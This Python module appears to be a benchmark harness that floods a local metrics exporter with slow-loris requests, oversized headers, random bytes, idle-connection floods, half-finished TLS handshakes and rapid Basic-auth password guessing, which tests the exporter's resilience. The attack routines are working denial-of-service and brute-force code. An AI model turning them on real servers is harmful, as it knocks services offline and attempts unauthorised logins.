"""What strangers do to an exporter's HTTP, as fast as one process can, until it is ended.

    python -m bench.attackers KIND PORT

Plain sockets, no deliberate pause but where the attack is one of slowness, and no lower priority than anybody's: as an
attacker would.  It connects from 127.0.0.2, or from where --from says, so that it has an address of its own.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import itertools
import os
import resource
import socket
import ssl
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

DRIP_SECONDS, HOLD_SECONDS = 0.5, 3600.0
ASK = b"GET /metrics HTTP/1.1\r\nHost: node\r\n"
MEGABYTE = b"y" * 1_000_000


@dataclass(frozen=True, slots=True)
class Target:
    """Where an attacker connects to, and from which address."""

    port: int
    source: str

    async def open(self) -> socket.socket:
        client = socket.socket()
        client.setblocking(False)
        try:
            client.bind((self.source, 0))
            await asyncio.get_running_loop().sock_connect(client, ("127.0.0.1", self.port))
        except BaseException:
            client.close()
            raise
        return client


Attack = Callable[[Target, int], Awaitable[None]]


async def send(client: socket.socket, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(client, data)


async def receive(client: socket.socket, size: int = 65536) -> bytes:
    """What has come; EOFError when nothing more will."""
    data = await asyncio.get_running_loop().sock_recv(client, size)
    if not data:
        raise EOFError
    return data


async def take_all(client: socket.socket) -> None:
    while True:
        await receive(client)


async def loris(target: Target, number: int) -> None:
    """A request that comes byte by byte and has no end."""
    with await target.open() as client:
        await send(client, ASK)
        while True:
            await send(client, b"x")
            await asyncio.sleep(DRIP_SECONDS)


async def parallel(target: Target, number: int) -> None:
    """A scrape on a connection of its own, again and again."""
    with await target.open() as client:
        await send(client, ASK + b"Connection: close\r\n\r\n")
        await take_all(client)


async def kept(target: Target, number: int) -> None:
    """Scrapes on one connection, each as soon as the one before is answered."""
    with await target.open() as client:
        while True:
            await send(client, ASK + b"Accept-Encoding: gzip\r\n\r\n")
            head, _, body = (await receive(client)).partition(b"\r\n\r\n")
            length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0] or b"0")
            left = length - len(body)
            while left > 0:
                left -= len(await receive(client))


async def long_header(target: Target, number: int) -> None:
    with await target.open() as client:
        await send(client, ASK + b"X: ")
        for _ in range(10):
            await send(client, MEGABYTE)


async def garbage(target: Target, number: int) -> None:
    with await target.open() as client:
        await send(client, os.urandom(100_000))
        await take_all(client)


async def idle(target: Target, number: int) -> None:
    """Scrapes once and keeps its connection; does not come again when it is put out."""
    with suppress(OSError, EOFError):
        await come_again(target, number)
    await asyncio.sleep(HOLD_SECONDS)


async def come_again(target: Target, number: int) -> None:
    """The same, and connects again at once."""
    with await target.open() as client:
        await send(client, ASK + b"Accept-Encoding: gzip\r\n\r\n")
        await take_all(client)


def hello() -> bytes:
    """The first message of a handshake, which costs nothing to send again."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


HELLO = hello()


async def open_handshake(target: Target, number: int) -> None:
    """Half of the first message, and then nothing."""
    with await target.open() as client:
        await send(client, HELLO[:100])
        await take_all(client)


async def handshake(target: Target, number: int) -> None:
    """The first message, so that the server signs; goes as soon as the answer is there."""
    with await target.open() as client:
        await send(client, HELLO)
        await receive(client)


async def secure(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return await asyncio.open_connection("127.0.0.1", target.port, ssl=context, local_addr=(target.source, 0))


_numbers = itertools.count()


async def guess(target: Target, user: str) -> None:
    """Wrong passwords on one connection, each as soon as the one before is refused."""
    reader, writer = await secure(target)
    try:
        while True:
            coded = base64.b64encode(f"{user}:{next(_numbers)}".encode())
            writer.write(ASK + b"Authorization: Basic " + coded + b"\r\n\r\n")
            if not await reader.read(4096):
                return
    finally:
        writer.transport.abort()


async def guess_known(target: Target, number: int) -> None:
    await guess(target, "prometheus")


async def guess_unknown(target: Target, number: int) -> None:
    await guess(target, f"nobody{number}")


@dataclass(frozen=True, slots=True)
class Flood:
    attack: Attack
    at_once: int
    is_secured: bool = False  # against an exporter with TLS and a password


FLOODS = {
    "50 slow-loris": Flood(loris, 50),
    "200 parallel scrapes": Flood(parallel, 200),
    "200 scrapes on kept connections": Flood(kept, 200),
    "20 headers of 10 MB": Flood(long_header, 20),
    "50 times garbage": Flood(garbage, 50),
    "1,000 idle connections": Flood(idle, 1000),
    "1,000 that come again": Flood(come_again, 1000),
    "300 handshakes that never end": Flood(open_handshake, 300, is_secured=True),
    "50 handshakes at full speed": Flood(handshake, 50, is_secured=True),
    "50 guesses, known user": Flood(guess_known, 50, is_secured=True),
    "50 guesses, unknown users": Flood(guess_unknown, 50, is_secured=True),
}


async def again(flood: Flood, target: Target, number: int) -> None:
    while True:
        with suppress(OSError, EOFError, ssl.SSLError, ValueError):
            await flood.attack(target, number)
        await asyncio.sleep(0)


async def attack(flood: Flood, target: Target) -> None:
    await asyncio.gather(*(again(flood, target, number) for number in range(flood.at_once)))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=FLOODS)
    parser.add_argument("port", type=int)
    parser.add_argument("--from", dest="source", default="127.0.0.2")
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    asyncio.run(attack(FLOODS[options.kind], Target(options.port, options.source)))


if __name__ == "__main__":
    main()
